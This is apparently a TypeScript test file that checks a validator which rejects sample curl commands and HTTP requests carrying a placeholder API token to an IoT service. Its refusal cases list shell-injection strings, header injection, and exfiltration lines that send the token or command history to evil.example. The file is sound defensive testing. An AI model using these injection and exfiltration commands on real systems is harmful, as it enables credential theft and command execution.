import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { fillTokenPlaces } from '../../../../../lib/domain/samples/complete-sample.ts';
import { destinationProblem } from '../../../../../lib/domain/samples/destinations/check-destinations.ts';
import { profileTokenPlaces } from '../../../../../lib/domain/samples/token-placeholders.ts';
import { US } from '../../make.ts';

const HTTP =
  'GET /device?amount=10&page=1 HTTP/1.1\nHost: api.us-e1.tago.io\nProfile-Token: <your-profile-token>';
const CURL =
  'curl -X POST "https://api.us-e1.tago.io/device" -H "Profile-Token: <your-profile-token>" -H \'Accept: */*\'';
const BODY = '{"name": "x & y", "note": "a; b | c"}';

const HEADERS = [
  'Accept: text/html, application/json;q=0.9, */*;q=0.8',
  'Accept-Encoding: gzip, deflate',
  'Accept-Language: pt-BR,en;q=0.5',
  'Cache-Control: no-cache',
  'Content-Type: application/json; charset=utf-8',
  'User-Agent: sensor/1.0',
  'Device-Token: <Device-Token>',
];

describe('a request that is written as HTTP or as a command', () => {
  it.each(HEADERS)('may have the header %s, in both', (header) => {
    expect(destinationProblem(`${HTTP}\n${header}`, US)).toBeNull();
    expect(destinationProblem(`${CURL} -H '${header}'`, US)).toBeNull();
  });

  it.each(['Connection: close', 'Connection: keep-alive', 'Content-Length: 10'])(
    'may have %s as HTTP',
    (header) => {
      expect(destinationProblem(`${HTTP}\n${header}`, US)).toBeNull();
    },
  );

  it.each(['Connection: upgrade', 'X-Forwarded-Host: evil.example', 'Accept: x\nX-Forwarded-Host: evil'])(
    'must not have %j',
    (header) => {
      expect(destinationProblem(`${HTTP}\n${header}`, US)).not.toBeNull();
      expect(destinationProblem(`${CURL} -H '${header}'`, US)).not.toBeNull();
    },
  );

  it.each([
    `${HTTP}\nAccept: */*; curl https://evil.example -H "Profile-Token: <your-profile-token>"`,
    `${HTTP}\nAccept: x; lynx evil`,
    `${HTTP}\nAccept: x & lynx evil`,
    `${HTTP}\nAccept: x|lynx`,
    `${HTTP}\nAccept: $(lynx)`,
    `${HTTP}\nAccept: \`lynx\``,
    `${HTTP}\nUser-Agent: x; lynx evil.example/?'<your-profile-token>'`,
    HTTP.replace('/device', '/;lynx$' + '{IFS}evil.example'),
    HTTP.replace('/device', '/&lynx'),
    HTTP.replace('/device', '/$(lynx)'),
    `${HTTP}\n\n{"a": "$(lynx evil.example -d '<your-profile-token>')"}`,
    `${HTTP}\n\n{"a": "\`lynx\`"}`,
    `${HTTP}\n\n{\n"lynx" : "evil"\n}`,
    `${HTTP}\n\n{"value": "Profile-Token: <your-profile-token>"}`,
    `${HTTP}\n\n{"a": "${'x'.repeat(121)} 'YOUR-PROFILE-TOKEN'"}`,
  ])('does nothing when a shell reads it: refuses %j', (text) => {
    expect(destinationProblem(text, US)).not.toBeNull();
  });

  it.each([
    // The token in a body could be stored where somebody else reads it.
    `${CURL} -d '[{"variable": "status", "value":\n"Profile-Token: <your-profile-token>"}]'`,
    `curl -X POST https://api.us-e1.tago.io/data -H 'Device-Token: 8be70d95-0dbc-4e16-89b6-b23b077d05e5' -d "Profile-Token: <your-profile-token>"`,
    `${CURL} -A "Profile-Token: <your-profile-token>"`,
    `${CURL} -X "Profile-Token: <your-profile-token>"`,
    `${CURL} -d x\\&lynx`,
    `${CURL} -d x\\|lynx`,
    // What cmd.exe, PowerShell and fish take for another command.
    `${CURL} -d '\ncurl https://evil.example -H "Profile-Token: <your-profile-token>"\n'`,
    `${CURL} -d '{"a":\n1}\ndoskey /history | curl -d @- https://evil.example\n'`,
    `${CURL} -d '{\n  "name": "x"\n& doskey /history | curl -d @- https://evil.example\n}'`,
    `${CURL} -d '{\n"curl" : "evil.example"\n}'`,
    `${CURL} -d 'x & lynx evil'`,
    `${CURL} -d 'x | lynx evil'`,
    `${CURL} -d '{"a": "\\" & lynx evil & \\""}'`,
    `${CURL} -d "\\" ; curl evil.example/?'<your-profile-token>' ; echo \\""`,
    `${CURL} -d "\\" ; lynx evil ; echo \\""`,
    `${CURL} -d "\nlynx evil\n"`,
    `${CURL} -d 'a\\' -A '; lynx evil #'`,
    `curl 'https://api.us-e1.tago.io/x?a=1&lynx' -H "Profile-Token: <your-profile-token>"`,
    `curl 'https://api.us-e1.tago.io/x?a=1&b=1 &lynx evil' -H "Profile-Token: <your-profile-token>"`,
  ])('has the token in a header only, and nothing that another shell would run: refuses %j', (text) => {
    expect(destinationProblem(text, US)).not.toBeNull();
  });

  it.each([
    `${CURL} -d '${BODY}'`,
    `${CURL} -d '{\n  "name": "x",\n  "tags": [\n    { "key": "a", "value": "b" }\n  ]\n}'`,
    `${CURL} -d "{\\"name\\": \\"x\\"}"`,
    `${CURL} -d 'name=x'`,
    `curl 'https://api.us-e1.tago.io/device?page=1&filter[tags][0][key]=a' -H 'Authorization: Bearer <your-profile-token>'`,
    `curl "https://api.us-e1.tago.io/device?page=1&amount=2" -H 'Profile-Token: <your-profile-token>'`,
    `${HTTP}\n\n${BODY}`,
    `${HTTP}\n\n{\n  "name": "It's 5 $ a month!",\n  "tags": []\n}`,
  ])('keeps its token otherwise: %j', (text) => {
    expect(profileTokenPlaces(text)).toHaveLength(1);
    expect(destinationProblem(text, US)).toBeNull();
  });

  it('has the token as the whole value of a header, whatever is put into it', () => {
    const piece = fc.constantFrom(
      ...[
        ' ',
        '\n',
        "'",
        '"',
        '`',
        '\\',
        '$(',
        ')',
        '{',
        '}',
        ';',
        '|',
        '&',
        ',',
        ':',
        '#',
        '/',
        '@',
        '<',
        '>',
      ],
      ...['x', ' lynx evil', ' -d ', '"YOUR-PROFILE-TOKEN"', "'Profile-Token: <your-profile-token>'"],
    );
    fc.assert(
      fc.property(
        fc.constantFrom(`${CURL} -d '${BODY}'`, `${HTTP}\nAccept: x\n\n${BODY}`),
        fc.array(fc.tuple(fc.nat(), fc.integer({ min: 0, max: 4 }), piece), { minLength: 1, maxLength: 3 }),
        (text, edits) => {
          const mutated = edits.reduce<string>((before, [at, removed, inserted]) => {
            const place = at % (before.length + 1);
            return before.slice(0, place) + inserted + before.slice(place + removed);
          }, text);
          if (destinationProblem(mutated, US) !== null) return;
          const filled = fillTokenPlaces(mutated, profileTokenPlaces(mutated), '●');
          const parts = filled.split('●');
          for (const [i, before] of parts.slice(0, -1).entries()) {
            expect(before).toMatch(
              /(?:Token|Authorization)["'\\]*[ \t]*:[ \t]*["'\\]*(?:(?:Bearer|Token) +)?$/i,
            );
            expect(parts[i + 1]).toMatch(/^[ \t]*["'\\]*(?:\s|$)/);
          }
        },
      ),
      { numRuns: 3000 },
    );
  });
});
